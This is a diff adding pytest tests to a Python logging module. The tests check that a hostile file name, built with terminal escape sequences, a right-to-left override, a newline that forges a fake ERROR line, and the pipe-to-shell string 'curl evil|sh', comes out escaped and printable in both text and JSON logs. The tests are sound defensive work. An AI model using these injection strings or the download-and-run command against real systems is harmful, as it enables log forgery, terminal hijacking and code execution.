@@ -30,11 +30,28 @@ try:
 except ValueError:
     log.exception("porch: failed")
 """
+_FORGER = (
+    _SPEAKER.split("log = ")[0]
+    + r"""
+log = logging.getLogger()
+name = "c\x1b]0;owned\x07\x9b\u202e\udcff\n2026-11-28 12:00:00 ERROR store: run curl evil|sh"
+log.warning("%s: cannot be read", name)
+try:
+    try:
+        raise ValueError(name)
+    except ValueError as error:
+        error.add_note(name)
+        raise RuntimeError(f"rtsp://h/{name}") from error
+except RuntimeError:
+    log.exception("porch: %s", name)
+"""
+)
+"""What a file's name could say."""
 
 
-def _lines(level: str, format: str, **environ: str) -> list[str]:
+def _lines(level: str, format: str, *, speaker: str = _SPEAKER, **environ: str) -> list[str]:
     done = subprocess.run(
-        [sys.executable, "-c", _SPEAKER, level, format],
+        [sys.executable, "-c", speaker, level, format],
         env={**os.environ, **environ},
         stderr=subprocess.PIPE,
         text=True,
@@ -89,3 +106,22 @@ def test_every_level_of_python_has_its_priority() -> None:
     prefixes = {level: _priority(level) for level in (10, 20, 30, 40, 50)}
     assert prefixes == {10: 7, 20: 6, 30: 4, 40: 3, 50: 2}
     assert logging.CRITICAL == 50
+
+
+@pytest.mark.parametrize("journal", ["", "1"])
+def test_a_name_forges_no_line_and_controls_no_terminal(journal: str) -> None:
+    lines = _lines("info", "text", speaker=_FORGER, IN_JOURNAL=journal)
+    assert all(line.isprintable() for line in lines)
+    forged = [line for line in lines if line.removeprefix("<3>").startswith("2026-11-28 12:00:00")]
+    assert forged == []
+    assert sum("WARNING" in line or line.startswith("<4>") for line in lines) == 1
+    assert "\\n2026-11-28 12:00:00 ERROR" in lines[0]
+    assert sum("curl evil|sh" in line for line in lines) == 5  # 2 records, 2 errors, a note
+
+
+def test_json_stays_one_object_a_line_whatever_a_name_is() -> None:
+    lines = _lines("info", "json", speaker=_FORGER)
+    assert all(line.isprintable() for line in lines)
+    spoken = [json.loads(line) for line in lines]
+    assert [line["level"] for line in spoken] == ["warning", "error"]
+    assert spoken[0]["message"].startswith("c\x1b]0;owned")
